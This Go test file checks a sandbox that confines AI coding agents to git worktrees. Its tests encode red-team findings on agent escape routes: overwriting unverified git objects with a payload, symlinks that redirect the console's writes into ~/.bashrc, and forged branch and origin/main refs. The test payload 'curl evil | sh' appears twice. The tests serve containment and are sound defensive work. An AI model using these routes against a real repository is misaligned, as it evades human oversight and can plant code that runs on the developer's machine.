package worktree

import (
	"bytes"
	"compress/zlib"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// agentCommit commits everything in the worktree as the agent's sandbox
// does: objects go to its own folder, the repository's read behind it.
func agentCommit(t *testing.T, tr Tree, own, msg string) string {
	t.Helper()
	agentRun(t, tr, own, "add", "-A")
	agentRun(t, tr, own, "commit", "-q", "-m", msg)
	return agentRun(t, tr, own, "rev-parse", "HEAD")
}

// agentRun runs git in the worktree as the agent's sandbox sees it.
func agentRun(t *testing.T, tr Tree, own string, args ...string) string {
	t.Helper()
	common := filepath.Dir(filepath.Dir(tr.GitDir))
	cmd := exec.Command("git", append([]string{"-C", tr.Path}, args...)...)
	cmd.Env = append(os.Environ(), "GIT_OBJECT_DIRECTORY="+own, "GIT_ALTERNATE_OBJECT_DIRECTORIES="+filepath.Join(common, "objects"))
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// overwrite puts content behind the loose object id in folder, as an agent
// with write access to it can: git reads it without checking the hash.
func overwrite(t *testing.T, folder, id, kind, content string) {
	t.Helper()
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	fmt.Fprintf(w, "%s %d\x00%s", kind, len(content), content)
	w.Close()
	path := filepath.Join(folder, id[:2], id[2:])
	if _, err := os.Stat(path); err != nil {
		t.Fatalf("object %s is not loose in %s: %v", id, folder, err)
	}
	_ = os.Chmod(path, 0o644)
	if err := os.WriteFile(path, z.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

func ownFolder(t *testing.T, tr Tree) (common, own string) {
	t.Helper()
	if _, err := tr.Confined(); err != nil {
		t.Fatal(err)
	}
	common = filepath.Dir(filepath.Dir(tr.GitDir))
	return common, filepath.Join(common, objectsFolder, filepath.Base(tr.GitDir))
}

// Red team 12a, finding 2: the content behind an id the merge shows is
// what the id says, whatever the agent wrote over it.
func TestMergeRefusesObjectsWrittenOver(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	common, own := ownFolder(t, tr)
	write(t, filepath.Join(tr.Path, "check.sh"), "echo checking\n")
	agentCommit(t, tr, own, "add check")
	blob := agentRun(t, tr, own, "rev-parse", "HEAD:check.sh")
	if _, err := os.Stat(filepath.Join(common, "objects", blob[:2], blob[2:])); err == nil {
		t.Fatal("the agent's blob is in the repository's own objects")
	}
	// The human's git reads nothing of the agent's folder: not yet copied,
	// the commit is not there for it.
	if out, err := exec.Command("git", "-C", repo, "cat-file", "-e", "teamlead/dev").CombinedOutput(); err == nil {
		t.Fatalf("the human's git reads the agent's folder: %s", out)
	}
	overwrite(t, own, blob, "blob", "curl evil | sh\n")
	head := run(t, repo, "rev-parse", "HEAD")
	_, err := PreviewMerge(tr, "")
	if !errors.Is(err, ErrObjectsChanged) {
		t.Fatalf("preview of a written-over blob: %v", err)
	}
	if run(t, repo, "rev-parse", "HEAD") != head {
		t.Fatal("the checkout moved")
	}
}

func TestMergeReadsTheVerifiedCopy(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	common, own := ownFolder(t, tr)
	write(t, filepath.Join(tr.Path, "check.sh"), "echo checking\n")
	agentCommit(t, tr, own, "add check")
	blob := agentRun(t, tr, own, "rev-parse", "HEAD:check.sh")
	p, err := PreviewMerge(tr, "")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(p.Changes.Patch, "+echo checking") {
		t.Fatalf("preview patch:\n%s", p.Changes.Patch)
	}
	if miss, err := missingObjects(repo, []string{blob, p.At}); err != nil || len(miss) > 0 {
		t.Fatalf("not copied into the repository's objects: %v %v", miss, err)
	}
	if got := run(t, repo, "show", "teamlead/dev:check.sh"); got != "echo checking" {
		t.Fatalf("the human's git reads %q once copied", got)
	}
	// Written over once shown: the repository's copy is the one read.
	overwrite(t, own, blob, "blob", "curl evil | sh\n")
	if _, err := Merge(tr, p); err != nil {
		t.Fatal(err)
	}
	if got := read(t, filepath.Join(repo, "check.sh")); got != "echo checking\n" {
		t.Fatalf("merged check.sh = %q", got)
	}
	// Every object the merge reaches is the repository's own (red team
	// 13c, finding 2: merge-tree left the merge's in the agent's folder).
	run(t, repo, "rev-list", "--objects", "HEAD")
	if out := run(t, repo, "fsck", "--connectivity-only", "--no-dangling"); out != "" {
		t.Fatalf("fsck: %s", out)
	}
	_ = common
}

// The console copies what the agent wrote as it looks (Status): its
// branch, its index's staged blobs, the remote-tracking refs it fetched;
// the repository never lists the agent's folder among its alternates, so
// a pack there cannot stand for the human's own objects (red team 13c,
// finding 1); and nothing is copied twice.
func TestStatusCopiesTheAgentsObjects(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	common, own := ownFolder(t, tr)
	write(t, filepath.Join(tr.Path, "a.txt"), "committed\n")
	agentCommit(t, tr, own, "a")
	write(t, filepath.Join(tr.Path, "b.txt"), "staged\n")
	agentRun(t, tr, own, "add", "b.txt")
	staged := agentRun(t, tr, own, "ls-files", "-s", "b.txt")
	if b, _ := os.ReadFile(filepath.Join(common, "objects", "info", "alternates")); strings.Contains(string(b), objectsFolder) {
		t.Fatalf("the repository lists the agent's folder: %s", b)
	}
	info, err := Status(tr)
	if err != nil || info.Ahead != 1 || !info.Dirty {
		t.Fatalf("Status: %+v, %v", info, err)
	}
	if got := run(t, repo, "show", "teamlead/dev:a.txt"); got != "committed" {
		t.Fatalf("the human's git reads %q", got)
	}
	if miss, _ := missingObjects(repo, []string{strings.Fields(staged)[1]}); len(miss) > 0 {
		t.Fatalf("the staged blob is not copied: %v", miss)
	}
	if _, err := Diff(tr); err != nil {
		t.Fatalf("Diff: %v", err)
	}
	packs, _ := filepath.Glob(filepath.Join(common, "objects", "*", "*"))
	if _, err := Status(tr); err != nil {
		t.Fatal(err)
	}
	again, _ := filepath.Glob(filepath.Join(common, "objects", "*", "*"))
	if len(again) != len(packs) {
		t.Fatalf("objects %d → %d", len(packs), len(again))
	}
}

// What was copied outlives the worktree: git worktree prune keeps the
// branch's commits.
func TestOwnObjectsOutliveTheWorktree(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	_, own := ownFolder(t, tr)
	write(t, filepath.Join(tr.Path, "f.txt"), "work\n")
	agentCommit(t, tr, own, "work")
	if err := ImportObjects(tr); err != nil { // as the console does while it runs
		t.Fatal(err)
	}
	if err := os.RemoveAll(tr.Path); err != nil {
		t.Fatal(err)
	}
	run(t, repo, "worktree", "prune")
	if got := run(t, repo, "show", "teamlead/dev:f.txt"); got != "work" {
		t.Fatalf("after prune: %q", got)
	}
	if out := run(t, repo, "fsck", "--connectivity-only"); strings.Contains(out, "missing") {
		t.Fatalf("fsck: %s", out)
	}
}

// The console writes into the agent's object folder at each start (its
// alternates) without following what the agent put there: a link at the
// temporary file's name, or an info folder that is a link, once had the
// console write "info/main" into a file of the human's choosing, such as
// ~/.bashrc, whose shell then ran ./info/main.
func TestPrivateObjectsFollowNoLink(t *testing.T) {
	repo := newRepo(t)
	common := filepath.Join(repo, ".git")
	dir, err := privateObjects(common, "dev")
	if err != nil {
		t.Fatal(err)
	}
	victim := filepath.Join(t.TempDir(), "bashrc")
	write(t, victim, "export PATH\n")
	if err := os.Remove(filepath.Join(dir, "info", "alternates")); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"alternates.teamlead-tmp", "alternates"} {
		if err := os.Symlink(victim, filepath.Join(dir, "info", name)); err != nil && !errors.Is(err, os.ErrExist) {
			t.Fatal(err)
		}
	}
	if _, err := privateObjects(common, "dev"); err != nil {
		t.Fatal(err)
	}
	if got := read(t, victim); got != "export PATH\n" {
		t.Fatalf("the console wrote through the agent's link: %q", got)
	}
	if st, err := os.Lstat(filepath.Join(dir, "info", "alternates")); err != nil || !st.Mode().IsRegular() {
		t.Errorf("alternates: %v, %v", st, err)
	}
	// The info folder itself a link to another folder of the human's.
	elsewhere := t.TempDir()
	if err := os.RemoveAll(filepath.Join(dir, "info")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(elsewhere, filepath.Join(dir, "info")); err != nil {
		t.Fatal(err)
	}
	if _, err := privateObjects(common, "dev"); err != nil {
		t.Fatal(err)
	}
	if ents, _ := os.ReadDir(elsewhere); len(ents) != 0 {
		t.Errorf("the console wrote into the folder the agent's link named: %v", ents)
	}
	if st, err := os.Lstat(filepath.Join(dir, "info")); err != nil || !st.IsDir() {
		t.Errorf("info: %v, %v", st, err)
	}
}

// Each worktree agent's branch is taken from its own folder of refs, as
// its sandbox shows it at refs/heads/teamlead: an agent cannot move
// another's branch (red team 12a, finding 7), sees the others' as the
// repository has them, and a branch the human moves is put in the agent's
// folder.
func TestEachAgentsBranchIsItsOwn(t *testing.T) {
	repo := newRepo(t)
	common := filepath.Join(repo, ".git")
	alice := ensure(t, Spec{Repo: repo, Agent: "alice"})
	bob := ensure(t, Spec{Repo: repo, Agent: "bob"})
	for _, tr := range []Tree{alice, bob} {
		if _, err := tr.Confined(); err != nil {
			t.Fatal(err)
		}
	}
	base := run(t, repo, "rev-parse", "teamlead/alice")
	heads := func(agent, branch string) string {
		return filepath.Join(common, "teamlead-refs", agent, "heads", branch)
	}
	if got := read(t, heads("bob", "alice")); got != base+"\n" {
		t.Fatalf("bob's copy of alice's branch: %q", got)
	}
	// alice commits in its sandbox: the objects go to its own folder, the
	// ref to its own folder of refs (git here writes the repository's;
	// put it back where the sandbox would have left it).
	write(t, filepath.Join(alice.Path, "a.txt"), "a\n")
	c1 := agentCommit(t, alice, filepath.Join(common, "teamlead-objects", "alice"), "a")
	run(t, repo, "update-ref", "refs/heads/teamlead/alice", base)
	write(t, heads("alice", "alice"), c1+"\n")
	if err := ImportObjects(alice); err != nil {
		t.Fatal(err)
	}
	if got := run(t, repo, "rev-parse", "teamlead/alice"); got != c1 {
		t.Fatalf("alice's branch after the look: %s, want %s", got, c1)
	}
	if got := read(t, heads("bob", "alice")); got != c1+"\n" {
		t.Errorf("bob's copy of alice's branch after her commit: %q", got)
	}
	// bob moves alice's branch in its own folder: only its copy changes,
	// and the next look puts the repository's back.
	write(t, heads("bob", "alice"), base+"\n")
	if err := ImportObjects(bob); err != nil {
		t.Fatal(err)
	}
	if got := run(t, repo, "rev-parse", "teamlead/alice"); got != c1 {
		t.Errorf("bob moved alice's branch: %s", got)
	}
	if got := read(t, heads("bob", "alice")); got != c1+"\n" {
		t.Errorf("bob's copy after the look: %q", got)
	}
	// The human resets alice's branch: her folder follows.
	run(t, repo, "update-ref", "refs/heads/teamlead/alice", base)
	if err := ImportObjects(alice); err != nil {
		t.Fatal(err)
	}
	if got := read(t, heads("alice", "alice")); got != base+"\n" {
		t.Errorf("alice's folder after the human's reset: %q", got)
	}
	if got := run(t, repo, "rev-parse", "teamlead/alice"); got != base {
		t.Errorf("the human's reset was undone: %s", got)
	}
	// A branch naming what is no commit of the repository's is refused.
	blob := run(t, repo, "rev-parse", "HEAD:README")
	write(t, heads("alice", "alice"), blob+"\n")
	if err := ImportObjects(alice); !errors.Is(err, ErrObjectsChanged) {
		t.Errorf("a branch naming a blob: %v", err)
	}
	if got := run(t, repo, "rev-parse", "teamlead/alice"); got != base {
		t.Errorf("alice's branch moved to a blob: %s", got)
	}
}

// A worktree agent's remote-tracking refs are its own copy of the
// repository's, made anew at each start: it forged origin/main, and the
// human's git merge --ff-only origin/main took its commit as upstream's
// (red team 14a, finding 7).
func TestRemotesAreTheAgentsOwn(t *testing.T) {
	repo := newRepo(t)
	main := run(t, repo, "rev-parse", "HEAD")
	run(t, repo, "update-ref", "refs/remotes/origin/main", main)
	alice := ensure(t, Spec{Repo: repo, Agent: "alice"})
	if _, err := alice.Confined(); err != nil {
		t.Fatal(err)
	}
	remotes := filepath.Join(repo, ".git", "teamlead-refs", "alice", "remotes")
	if got := read(t, filepath.Join(remotes, "origin", "main")); got != main+"\n" {
		t.Fatalf("alice's origin/main: %q", got)
	}
	// What it does there stays there, and is gone at its next start.
	elsewhere := t.TempDir()
	write(t, filepath.Join(remotes, "origin", "main"), strings.Repeat("1", 40)+"\n")
	if err := os.Symlink(elsewhere, filepath.Join(remotes, "upstream")); err != nil {
		t.Fatal(err)
	}
	if err := ImportObjects(alice); err != nil {
		t.Fatal(err)
	}
	if got := run(t, repo, "rev-parse", "origin/main"); got != main {
		t.Errorf("the human's origin/main: %s", got)
	}
	if _, err := alice.Confined(); err != nil {
		t.Fatal(err)
	}
	if got := read(t, filepath.Join(remotes, "origin", "main")); got != main+"\n" {
		t.Errorf("alice's origin/main after a restart: %q", got)
	}
	if _, err := os.Lstat(filepath.Join(remotes, "upstream")); err == nil {
		t.Error("the link it left is still there")
	}
	if ents, _ := os.ReadDir(elsewhere); len(ents) != 0 {
		t.Errorf("written through its link: %v", ents)
	}
}
